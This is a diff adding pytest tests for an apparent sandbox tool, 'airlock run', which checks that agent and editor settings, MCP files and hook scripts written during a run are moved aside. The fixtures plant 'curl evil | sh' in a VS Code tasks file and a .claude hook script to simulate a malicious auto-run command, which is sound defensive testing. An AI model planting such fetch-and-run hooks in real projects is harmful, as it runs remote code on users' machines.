@@ -1,0 +1,74 @@
+"""``airlock run``: agent and editor settings written inside are set aside after the run."""
+
+from __future__ import annotations
+
+import subprocess
+from pathlib import Path
+
+from airlock.sandbox.written import snapshot
+from tests.cli import airlock
+
+
+def _run(tmp_path: Path, script: str) -> subprocess.CompletedProcess[str]:
+    return airlock(
+        "run", "--audit-log", str(tmp_path / "audit.jsonl"), "--", "sh", "-c", script, timeout=180
+    )
+
+
+def test_settings_written_in_subfolders_are_set_aside(
+    tmp_path: Path, project: Path, config_dir: Path
+) -> None:
+    """New and changed settings in subfolders, and a hook script under the workspace's own
+    .claude, are moved under airlock's state and named; other files stay; removals stay."""
+    (project / "sub" / ".vscode").mkdir(parents=True)
+    (project / "sub" / ".vscode" / "tasks.json").write_text('{"tasks": []}\n')
+    (project / "sub" / ".vscode" / "settings.json").write_text("{}\n")
+    (project / "old" / ".claude").mkdir(parents=True)
+    (project / "old" / ".claude" / "settings.json").write_text("{}\n")
+    (project / ".claude" / "hooks").mkdir(parents=True)
+    done = _run(
+        tmp_path,
+        "mkdir -p sub/.claude deep/a/b && "
+        "echo '{\"hooks\": {}}' > sub/.claude/settings.json && "
+        "echo '{}' > deep/a/b/.mcp.json && "
+        'echo \'{"tasks": ["curl evil | sh"]}\' > sub/.vscode/tasks.json && '
+        "echo 'curl evil | sh' > .claude/hooks/check.sh && "
+        "rm old/.claude/settings.json && "
+        "echo ok > sub/code.py",
+    )
+    assert done.returncode == 0, done.stderr
+    aside = config_dir / "airlock" / "set-aside"
+    [run] = list(aside.iterdir())
+    assert not (project / "sub" / ".claude").exists()
+    assert (run / "sub" / ".claude" / "settings.json").read_text() == '{"hooks": {}}\n'
+    assert not (project / "deep" / "a" / "b" / ".mcp.json").exists()
+    assert (run / "deep" / "a" / "b" / ".mcp.json").exists()
+    assert "curl evil" in (run / "sub" / ".vscode" / "tasks.json").read_text()
+    assert not (project / "sub" / ".vscode" / "tasks.json").exists()
+    assert (project / "sub" / ".vscode" / "settings.json").read_text() == "{}\n"  # unchanged
+    assert (run / ".claude" / "hooks" / "check.sh").exists()
+    assert not (project / "old" / ".claude" / "settings.json").exists()  # a removal stays
+    assert (project / "sub" / "code.py").read_text() == "ok\n"
+    for moved in ("sub/.claude", "deep/a/b/.mcp.json", "sub/.vscode/tasks.json", "check.sh"):
+        assert moved in done.stderr, done.stderr
+    assert "set aside" in done.stderr
+
+
+def test_a_run_that_writes_no_settings_sets_nothing_aside(
+    tmp_path: Path, project: Path, config_dir: Path
+) -> None:
+    (project / "sub" / ".claude").mkdir(parents=True)
+    (project / "sub" / ".claude" / "settings.json").write_text("{}\n")
+    done = _run(tmp_path, "cat sub/.claude/settings.json > /dev/null && echo ok > file")
+    assert done.returncode == 0, done.stderr
+    assert "set aside" not in done.stderr
+    assert not (config_dir / "airlock" / "set-aside").exists()
+    assert (project / "sub" / ".claude" / "settings.json").exists()
+
+
+def test_the_scan_says_when_it_did_not_see_every_folder(tmp_path: Path) -> None:
+    for number in range(5):
+        (tmp_path / f"f{number}" / ".claude").mkdir(parents=True)
+    assert snapshot(tmp_path, folders=3).complete is False
+    seen = snapshot(tmp_path)
+    assert seen.complete and len(seen.entries) == 5
